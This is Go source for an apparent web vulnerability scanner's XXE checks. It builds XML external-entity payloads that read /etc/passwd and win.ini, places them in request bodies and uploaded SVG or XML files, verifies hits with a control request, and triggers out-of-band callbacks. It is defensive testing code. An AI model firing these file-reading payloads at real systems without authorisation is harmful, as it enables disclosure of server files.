package remote

import (
	"bytes"
	"context"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"

	"github.com/vedette-sec/vedette/internal/webtest/check/kit"
	"github.com/vedette-sec/vedette/internal/webtest/client"
	"github.com/vedette-sec/vedette/internal/webtest/markup"
	"github.com/vedette-sec/vedette/internal/webtest/message"
	"github.com/vedette-sec/vedette/internal/webtest/proof"
)

// passwd is the grammar of /etc/passwd.
const passwd = `root:[^:\n]*:0:0:[^:\n]*:[^:\n]*:[^\s:]*[\s\S]{0,20}?[a-z_][a-z0-9_-]*:[^:\n]*:\d+:\d+:`

// public stands before an address that an entity names behind a public identifier, where the word SYSTEM is refused.
const public = "PUBLIC "

// files are what entities name, with the grammar of the content.
var files = []struct{ address, missing, grammar string }{
	{"file:///etc/passwd", "file:///etc/passwq", passwd},
	{public + "file:///etc/passwd", public + "file:///etc/passwq", passwd},
	{"file:///c:/windows/win.ini", "file:///c:/windows/wim.ini", `(?i)\[(fonts|extensions|mci extensions)\]`},
}

// xxe is the check for entities. Four requests for each value of an XML body that is clean, and for each other value
// that is a document of XML, as in a form; one more for the out-of-band server; none for other values.
func xxe() kit.Check {
	c := kit.Check{ID: "xxe", Class: "xxe", Level: client.Safe}.Describe()
	c.Place = func(ctx context.Context, w *kit.World, t *kit.Target, p message.Place) error {
		if p.Key || (p.Format != message.XML || strings.Contains(p.Name, "@")) && !document.MatchString(p.Value) {
			return nil
		}
		e := entities{World: w, Target: t, c: &c, place: p,
			with: func(address string) *message.Request { return entity(t.Request, p, address) }}
		if found, err := e.read(ctx); err != nil || found || w.OAST == nil || !w.Once("xxe oob "+t.Request.Key()) {
			return err
		}
		return call(ctx, waiting{check: &c, target: t, place: p, write: e.called}, w)
	}
	return c
}

// document is a text that is a document of XML with a text in it.
var document = regexp.MustCompile(`(?s)^\s*(?:<\?xml[^>]*\?>)?\s*<[A-Za-z][\w:.-]*(?:\s[^<>]*)?>.*>[^<>]*[^<>\s][^<>]*</[\w:.-]+>.*</[\w:.-]+>\s*$|` +
	`^\s*(?:<\?xml[^>]*\?>)?\s*<[A-Za-z][\w:.-]*>[^<>]+</[\w:.-]+>\s*$`)

// texts are the texts between the tags of a document.
var texts = regexp.MustCompile(`>[^<>]*[^<>\s][^<>]*</`)

// drawing is a file that is XML.
type drawing struct{ ext, kind, content string }

// drawings are files with an entity {e} that applications read as XML.
var drawings = []drawing{
	{".svg", "image/svg+xml", `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="400" height="80">` +
		`<title>{e}</title><desc>{e}</desc><text x="9" y="20">{e}</text></svg>`},
	{".xml", "text/xml", `<?xml version="1.0"?><data><item><name>{e}</name></item></data>`},
}

// maxExamples are how many documents of the page that has a form are tried, and files that it links to are read.
const maxExamples = 2

// linkedXML is a link to a document.
var linkedXML = regexp.MustCompile(`(?i)\bhref\s*=\s*["']?([^"'\s>]+\.xml)["'\s>]`)

// examples are the documents that the page of a form shows, or offers as files: they have the elements that the
// application looks for. Every text in them is the entity {e}.
func examples(ctx context.Context, w *kit.World, t *kit.Target) (all []string, err error) {
	at, err := url.Parse(t.From)
	if err != nil || at.Host != t.Request.URL.Host {
		return nil, nil //nolint:nilerr // it stands on no page that is known
	}
	page, err := w.Ask(ctx, message.From(http.MethodGet, at), t.User)
	if err != nil {
		return nil, err
	}
	all = markup.Documents(string(page.Body))
	for _, m := range linkedXML.FindAllSubmatch(page.Body, maxExamples) {
		to, err := at.Parse(string(m[1]))
		if err != nil || to.Host != at.Host {
			continue
		}
		answer, err := w.Ask(ctx, message.From(http.MethodGet, to), t.User)
		if err != nil {
			return nil, err
		}
		if text := strings.TrimSpace(string(answer.Body)); markup.IsDocument(text) {
			all = append(all, text)
		}
	}
	for i := range all {
		all[i] = texts.ReplaceAllString(all[i], ">{e}</")
	}
	return all[:min(len(all), maxExamples)], nil
}

// xxeInFile is the check for entities in files that are left: drawings and documents of XML, and those that the page of
// the form has as examples. Three requests for each kind that is clean, one more for the out-of-band server, three to
// read the examples; at level active, because it may store them.
func xxeInFile() kit.Check {
	c := kit.Check{ID: "xxe-in-file", Class: "xxe", Level: client.Active}.Describe()
	c.Place = func(ctx context.Context, w *kit.World, t *kit.Target, p message.Place) error {
		if !p.File {
			return nil
		}
		own, err := examples(ctx, w, t)
		if err != nil {
			return err
		}
		files := slices.Clone(drawings)
		for _, text := range own {
			files = append(files, drawing{".xml", "text/xml", text})
		}
		for _, d := range files {
			e := entities{World: w, Target: t, c: &c, place: p, writes: true, with: func(address string) *message.Request {
				name := "e" + kit.Word()
				text := declare([]byte(strings.ReplaceAll(d.content, "{e}", "&"+name+";")), name, address)
				return named(t.Request.Put(p, string(text)), p.Name, kit.Word()+d.ext, d.kind)
			}}
			if found, err := e.read(ctx); err != nil || found {
				return err
			}
			if w.OAST != nil {
				if err := call(ctx, waiting{check: &c, target: t, place: p, write: e.called}, w); err != nil {
					return err
				}
			}
		}
		return nil
	}
	return c
}

// entities is the test of a document that may have one.
type entities struct {
	*kit.World
	*kit.Target

	c        *kit.Check
	place    message.Place
	writes   bool
	includes bool // by an element, and not by an entity
	with     func(address string) *message.Request
}

func (e *entities) called(address string) *message.Request { return e.with("http://" + address + "/") }

// read reports an entity that brings the content of a file, or that the parser says it cannot read.
func (e *entities) read(ctx context.Context) (bool, error) {
	if found, err := e.contents(ctx); err != nil || found || e.writes {
		return found, err
	}
	return e.fails(ctx)
}

// contents reports an entity that brings the content of a file.
func (e *entities) contents(ctx context.Context) (bool, error) {
	for _, f := range files {
		if e.includes && strings.HasPrefix(f.address, public) {
			continue
		}
		grammar := regexp.MustCompile(f.grammar)
		first, err := e.Send(ctx, e.Target, e.with(f.address))
		if err != nil {
			return false, err
		}
		match := grammar.FindString(message.Shown(first.Body))
		if match == "" || e.Response != nil && grammar.Match(e.Response.Body) {
			continue
		}
		control, err := e.Send(ctx, e.Target, e.with(f.missing))
		if err != nil || grammar.MatchString(message.Shown(control.Body)) {
			return false, err
		}
		again, err := e.Send(ctx, e.Target, e.with(f.address))
		if err != nil || !grammar.MatchString(message.Shown(again.Body)) {
			return false, err
		}
		user, users := kit.Names(e.User)
		e.Found(e.c, kit.Finding{Request: first.Request, Place: e.place, Payload: f.address, Detail: f.address,
			Evidence: []kit.Evidence{
				{Request: first.Request, Response: first, Match: match[:min(len(match), 300)],
					Note: "the content of " + f.address},
				{Request: control.Request, Response: control, Note: "a name of no file does not bring it"},
			},
			Proof: &proof.Program{About: "An external entity brings the content of a file.", Users: users, Steps: []proof.Step{
				{ID: "file", As: user, Send: e.with(f.address), Writes: e.writes,
					Expect: []proof.Expect{{What: proof.Matches, Value: f.grammar}}},
				{ID: "missing", As: user, Send: e.with(f.missing), Writes: e.writes,
					Expect: []proof.Expect{{What: proof.Matches, Value: f.grammar, Not: true}}},
			}}})
		return true, nil
	}
	return false, nil
}

var prolog = regexp.MustCompile(`^\s*<\?xml[^>]*\?>`)
var doctype = regexp.MustCompile(`(?is)<!DOCTYPE[^>\[]*(\[.*?\])?\s*>`)

// entity is a request whose document declares an external entity and has it at a place.
func entity(r *message.Request, p message.Place, address string) *message.Request {
	name := "e" + kit.Word()
	if p.Format != message.XML {
		return r.Put(p, string(declare(texts.ReplaceAll([]byte(p.Value), []byte(">&"+name+";</")), name, address)))
	}
	out := r.PutRaw(p, "&"+name+";")
	out.Body = declare(out.Body, name, address)
	return out
}

// declare is a document with the declaration of an entity.
func declare(document []byte, name, address string) []byte {
	document = doctype.ReplaceAll(document, nil)
	id := `SYSTEM "` + address + `"`
	if to, ok := strings.CutPrefix(address, public); ok {
		id = public + `"` + name + `" "` + to + `"`
	}
	declared := []byte(`<!DOCTYPE r [<!ENTITY ` + name + ` ` + id + `>]>`)
	head := prolog.Find(document)
	return bytes.Join([][]byte{head, declared, document[len(head):]}, nil)
}
